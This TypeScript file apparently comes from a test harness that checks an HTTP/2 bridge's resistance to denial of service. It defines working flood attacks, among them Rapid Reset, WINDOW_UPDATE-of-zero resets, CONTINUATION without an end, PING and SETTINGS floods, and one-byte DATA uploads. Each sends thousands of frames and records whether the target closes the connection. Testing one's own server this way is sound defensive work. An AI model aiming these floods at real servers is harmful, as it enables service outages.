// The client sends many cheap frames on one HTTP/2 connection.

import {
  dataFrame,
  frame,
  H2Code,
  headersFrame,
  pingFrame,
  resetFrame,
  settingsFrame,
  Type,
  windowUpdateFrame,
} from "../../../packages/bridge/test/support/h2-frames.ts"
import type { Attack } from "../attack.ts"
import type { Attacker } from "../attacker/attacker.ts"
import type { Http2Line } from "../attacker/http2-line.ts"
import { pathOf } from "../backend-modes.ts"

const framesPerWrite = 500

export const floodAttacks: readonly Attack[] = [
  {
    id: "rapid-reset",
    title: "calls that are reset as soon as they are opened",
    isInCheck: true,
    run: (attacker) => flood(attacker, (line) => openAndReset(line, H2Code.Cancel)),
  },
  {
    id: "made-you-reset",
    title: "calls that the target itself must reset (WINDOW_UPDATE of 0)",
    run: (attacker) => flood(attacker, (line) => openAndBreak(line)),
  },
  { id: "ping-flood", title: "PING", run: (attacker) => flood(attacker, () => pingFrame()) },
  { id: "settings-flood", title: "SETTINGS", run: (attacker) => flood(attacker, () => settingsFrame()) },
  {
    id: "empty-data-flood",
    title: "empty DATA on an open call",
    run: (attacker) => floodOnOpenCall(attacker, (id) => dataFrame(id, Buffer.alloc(0))),
  },
  {
    id: "priority-flood",
    title: "PRIORITY",
    run: (attacker) => flood(attacker, (line) => frame(Type.Priority, 0, line.takeStreamId(), Buffer.alloc(5, 1))),
  },
  {
    id: "window-update-flood",
    title: "WINDOW_UPDATE of one byte",
    run: (attacker) => flood(attacker, () => windowUpdateFrame(0, 1)),
  },
  {
    id: "continuation-flood",
    title: "CONTINUATION without an end",
    async run(attacker) {
      const piece = headersFrame(1, ["x-piece", "v".repeat(200)])
      piece[3] = Type.Continuation
      piece[4] = 0
      const line = await attacker.http2Line()
      const call = Buffer.from(line.call(pathOf("Echo"), null))
      call[4] = 0
      line.send(call)
      await sendMany(attacker, line, () => piece)
    },
  },
  {
    id: "one-byte-data",
    title: "an upload in DATA frames of one byte",
    async run(attacker) {
      await uploadByteByByte(attacker)
    },
  },
]

async function flood(attacker: Attacker, make: (line: Http2Line) => Uint8Array): Promise<void> {
  const line = await attacker.http2Line()
  await sendMany(attacker, line, () => make(line))
}

async function floodOnOpenCall(attacker: Attacker, make: (id: number) => Uint8Array): Promise<void> {
  const line = await attacker.http2Line()
  line.send(line.call(pathOf("Echo"), null))
  await sendMany(attacker, line, () => make(1))
}

/** Sends up to 20,000 frames on one connection. Stops when the target closes the connection. */
async function sendMany(attacker: Attacker, line: Http2Line, make: () => Uint8Array): Promise<void> {
  let sent = 0
  for (const total = attacker.many(20_000, 5_000); sent < total && !line.isClosed; sent += framesPerWrite) {
    if (!(await line.sendAll(Buffer.concat(Array.from({ length: framesPerWrite }, make))))) break
    await new Promise((resolve) => setImmediate(resolve))
  }
  attacker.note("frames sent", sent)
  await attacker.hold(1_500)
  attacker.note("connection closed", line.isClosed || line.goaway !== null ? 1 : 0)
}

function openAndReset(line: Http2Line, code: number): Uint8Array {
  const call = line.call(pathOf("Silent"), null)
  return Buffer.concat([call, resetFrame(Buffer.from(call).readUInt32BE(5), code)])
}

/** RFC 9113 §6.9: an increment of 0 is an error of the stream. */
function openAndBreak(line: Http2Line): Uint8Array {
  const call = line.call(pathOf("Silent"), null)
  return Buffer.concat([call, windowUpdateFrame(Buffer.from(call).readUInt32BE(5), 0)])
}

/** Uploads on one call, as fast as the target's windows allow. */
async function uploadByteByByte(attacker: Attacker): Promise<void> {
  const line = await attacker.http2Line()
  const call = Buffer.from(line.call(pathOf("Echo"), null))
  const id = call.readUInt32BE(5)
  const prefix = Buffer.from([0, 0, 0x3f, 0xff, 0xff])
  line.send(call, dataFrame(id, prefix))
  let left = attacker.many(400_000, 100_000)
  const one = dataFrame(id, Buffer.of(7))
  const many = Buffer.concat(Array.from({ length: 2_000 }, () => one))
  while (left > 0 && !line.isClosed && line.endedStreams === 0) {
    const count = Math.min(2_000, left, line.window)
    if (count <= 0) {
      await line.moreWindow()
      continue
    }
    line.spendWindow(count)
    if (!(await line.sendAll(many.subarray(0, count * one.length)))) break
    left -= count
    await new Promise((resolve) => setImmediate(resolve))
  }
  await attacker.hold(2_000) // the target still reads bytes from its kernel buffer
  attacker.note("frames sent", attacker.many(400_000, 100_000) - left)
}
